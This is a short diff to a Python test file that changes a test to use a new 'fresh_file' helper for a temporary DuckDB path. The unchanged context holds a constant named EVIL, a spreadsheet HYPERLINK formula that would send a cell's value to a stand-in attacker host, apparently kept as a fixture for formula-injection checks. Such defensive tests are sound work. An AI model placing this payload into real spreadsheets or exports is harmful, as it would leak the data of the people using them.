@@ -16,7 +16,7 @@ from careboard.store import db as store_db
 from careboard.store.load import load_returns
 from careboard.validate import report
 from careboard.validate.runner import validate_files, validate_loaded
-from fresh_db import fresh_database
+from fresh_db import fresh_database, fresh_file
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'
 
@@ -173,7 +173,7 @@ def test_every_repair_is_a_finding_when_files_are_checked(tmp_path, small_set):
 
 def test_every_repair_survives_the_load(tmp_path, small_set):
     repaired_set(small_set)
-    path = tmp_path / "v.duckdb"
+    path = fresh_file(tmp_path / "v.duckdb")
     con = store_db.connect(path)
     load_returns(con, read_returns([small_set]))
     con.close()
